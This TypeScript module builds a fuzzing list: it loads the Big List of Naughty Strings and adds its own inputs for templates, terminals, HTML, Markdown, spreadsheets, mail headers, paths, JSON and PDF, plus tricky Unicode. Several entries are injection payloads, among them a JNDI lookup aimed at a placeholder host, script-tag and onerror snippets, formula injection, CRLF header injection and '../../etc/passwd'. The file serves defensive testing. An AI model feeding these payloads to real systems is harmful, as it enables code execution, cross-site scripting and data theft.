// Strings that break programs: the big list of naughty strings, and kinds that it lacks, each made by what makes it one.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

const listed: readonly string[] = JSON.parse(
  readFileSync(join(import.meta.dirname, '../naughty-strings/blns.json'), 'utf8'),
);

/** The big list has at least so many. */
export const LISTED = 485;

const marks = (first: number, count: number) =>
  Array.from({ length: count }, (_, at) => String.fromCodePoint(first + at)).join('');

const kinds: Readonly<Record<string, readonly string[]>> = {
  'fields of templates': [
    '{name}',
    '{{7*7}}',
    '$'.concat('{7*7}'),
    '#{7*7}',
    '<%= 7*7 %>',
    '{% raw %}',
    '%s%s%n',
    '%1$s',
    '$(id)',
    '`id`',
    '$'.concat('{jndi:ldap://x.example/a}'),
  ],
  'what a terminal acts on': [
    '\u001b]8;;https://x.example\u0007link\u001b]8;;\u0007',
    '\u001bP+q544e\u001b\\',
    '\u009b31mred',
    'a\rb',
    'a\bb',
    '\u001b[2J\u001b[H',
  ],
  'what a page acts on': [
    '</title><script>x()</script>',
    '<img src=x onerror=x()>',
    '"><svg onload=x()>',
    '<!--',
    ']]>',
    '&lt;b&gt;',
    '</style>',
    "' onmouseover='x()",
  ],
  'what Markdown acts on': [
    '[a](javascript:x)',
    '![a](https://x.example/a.png)',
    '`a`',
    '**a**',
    '| a | b |',
    '# a',
    '- [ ] a',
    '<https://x.example>',
    'a  \nb',
    '\\*',
  ],
  'what a sheet acts on': [
    '=1+1',
    '@SUM(1)',
    '+cmd|x',
    '-2+3',
    '=HYPERLINK("https://x.example";"a")',
    '\t=1+1',
    "'=1+1",
    '007',
    '1e5',
    '2026-01-02',
  ],
  'what a calendar or a mail acts on': [
    'a\r\nATTENDEE:mailto:x@x.example',
    'a\nBcc: x@x.example',
    'END:VEVENT',
    'a\\nb;c,d',
    '=?utf-8?q?a?=',
    '<x@x.example>',
    'a"b"c',
  ],
  'what a path acts on': [
    '../../etc/passwd',
    '..\\..\\x',
    '/dev/null',
    'CON',
    'a\u2215b',
    '~',
    '-rf',
    '--help',
    'file:///x',
  ],
  'what JSON and objects act on': ['__proto__', 'constructor', 'null', '{"a":1}', '\\u0000', '\\"', 'NaN'],
  'what PDF acts on': [') Tj ET Q', '<< /JS (x) >>', '\\050', 'endstream'],
  'letters that combine': [
    'e\u0301',
    '\u1100\u1161\u11a8',
    'ज्ञ',
    'జ్ఞ‌ా',
    'ක්‍ෂ',
    `Z${marks(0x300, 40)}algo`,
    'न\u200dन',
    'لا إله',
    'ﷺ',
  ],
  directions: ['\u202eabc', '\u2067abc\u2069', 'abc\u200fdef', 'مريم Maria 42', 'שלום (abc)', '\u061cabc'],
  'what is not seen': [
    '\u200b',
    'a\u00adb',
    'a\u2060b',
    '\ufeffa',
    'a\u180eb',
    '\u3164',
    '\u1680a',
    'a\u2028b',
    `a${marks(0xe0061, 3)}`,
    '\u034f',
  ],
  pictures: ['👩🏽‍🔬', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '🇵🇭🇳🇵', '❤️‍🔥', '1️⃣', '👨‍👩‍👧‍👦'.repeat(3)],
  'letters that change their length': ['İstanbul', 'ﬁ', 'ŉ', 'ẞ', 'ǅ', 'ΐ', '𝓜𝓪𝓻𝓲𝓪', 'Ｍａｒｉａ', 'Ⅷ', 'ᵐᵃʳⁱᵃ'],
  'what stands for no letter': ['\uffff', '\ufdd0', '\ue000', '\u{10ffff}', '\ufffd', '\ud800', '\udc00a'],
  'what fills its place': [
    'W'.repeat(200),
    '陈'.repeat(200),
    'a '.repeat(99),
    'a'.repeat(201),
    '\u0e33'.repeat(60),
    '👩🏽‍🔬'.repeat(28),
  ],
};

export const naughty: readonly string[] = [...listed, ...Object.values(kinds).flat()];
